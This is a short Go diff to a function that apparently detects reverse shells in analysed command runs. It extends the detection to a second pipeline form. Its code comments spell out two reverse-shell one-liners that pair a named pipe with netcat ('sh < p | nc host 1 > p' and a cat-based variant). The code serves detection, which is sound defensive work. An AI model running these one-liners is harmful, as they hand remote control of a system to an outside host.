@@ -60,7 +60,7 @@ func (j *judge) reverseShells() {
 		if !isShell(r.Program) || r.Remote || !interactive(r) {
 			continue
 		}
-		if answers[i] {
+		if answers[i] || answers[r.From] {
 			j.add("reverse_shell", j.line(i))
 			continue
 		}
@@ -71,7 +71,7 @@ func (j *judge) reverseShells() {
 }
 
 // answers are the runs that read a file, a pipe with a name most likely, into
-// which a connection writes: sh < p | nc host 1 > p.
+// which a connection writes: sh < p | nc host 1 > p, cat p | sh | nc host 1 > p.
 func (j *judge) answers(connected map[int]bool) map[int]bool {
 	written := map[string]bool{}
 	for i := range j.set.Files {
